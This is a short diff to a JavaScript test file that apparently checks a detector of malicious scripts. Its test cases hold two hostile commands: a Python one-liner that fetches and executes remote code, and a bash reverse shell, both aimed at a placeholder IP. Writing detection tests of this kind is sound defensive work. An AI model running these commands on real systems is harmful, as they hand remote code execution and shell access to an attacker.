@@ -31,7 +31,8 @@ describe('KM-A06', () => {
     `python3 -c "import urllib.request as u; exec(u.urlopen('http://198.51.100.7').read())"`,
     'bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
   ])('sees %s', (script) => {
-    expect(found(script)).toBeDefined();
+    expect(found(script)?.join('')).not.toBe('');
+    expect(found(script)?.length).toBeGreaterThan(0);
   });
 
   test.each([
